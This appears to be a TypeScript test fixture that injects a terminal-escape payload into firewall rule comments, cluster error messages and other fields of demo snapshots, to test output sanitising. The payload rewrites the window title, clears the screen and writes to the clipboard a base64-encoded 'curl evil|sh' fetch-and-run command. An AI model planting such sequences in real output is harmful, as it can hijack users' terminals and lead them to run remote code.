/**
 * Hostile snapshots, built on the fly from the bundled demos: what an attacker who controls a node's
 * rule comments, a webhook's error message or a ticket's snapshot file can put in front of a person.
 * Every field a person may read carries PAYLOAD: window title (OSC 0), clipboard write (OSC 52),
 * clear screen and home, a colour of its own, 8-bit CSI, DEL and a bidi override.
 */
import { readFileSync } from 'node:fs';
import type { Snapshot } from '../../src/snapshot/schema.js';

export const PAYLOAD = '\x1b]0;owned\x07\x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b[2J\x1b[H\x1b[31mFAKE\x9b2J\u202eevil\x7f\x00';

/** What the payload looks like once sanitised: its first escape, visible. */
export const PAYLOAD_SHOWN = '\\x1b]0;owned\\x07';

function load(file: string): Snapshot {
  return JSON.parse(readFileSync(file, 'utf8')) as Snapshot;
}

/** iptables comments hold any byte but `"` (iptables-save quotes them); every comment gets the payload. */
function poisonIptables(dump: string): string {
  return dump.replaceAll('--comment "', `--comment "${PAYLOAD}`);
}

/** nft -j comments, on rules and set elements: the payload as a JSON string's content. */
function poisonNft(json: string): string {
  const escaped = JSON.stringify(PAYLOAD).slice(1, -1);
  return json.replace(/"comment": ?"/g, (m) => `${m}${escaped}`);
}

/** A copy of `file` (examples/demo.json or demo-nftables.json) with the payload everywhere text is free. */
export function hostileSnapshot(file = 'examples/demo.json'): Snapshot {
  const s = load(file);
  s.createdAt = `${s.createdAt}${PAYLOAD}`;
  s.source.context = `${s.source.context ?? ''}${PAYLOAD}`;
  for (const node of s.nodes) {
    for (const [id, out] of Object.entries(node.commands)) {
      if (id.includes('tables') && id.endsWith('save')) out.stdout = poisonIptables(out.stdout);
      if (id === 'nft-ruleset') out.stdout = poisonNft(out.stdout);
    }
  }
  for (const n of s.cluster.nodes) {
    const conditions = (n.status as { conditions?: { message?: string }[] } | undefined)?.conditions ?? [];
    for (const c of conditions) c.message = `${c.message ?? ''}${PAYLOAD}`;
  }
  s.errors.push(
    { stage: 'cluster', what: `list networkpolicies${PAYLOAD}`, why: `admission webhook said: ${PAYLOAD}`, code: 403, hint: `ask ${PAYLOAD}` },
    { stage: 'node', node: s.nodes[0]?.name ?? 'node-1', what: 'read ip6tables rules', why: `ip6tables-nft-save: ${PAYLOAD}` },
  );
  return s;
}
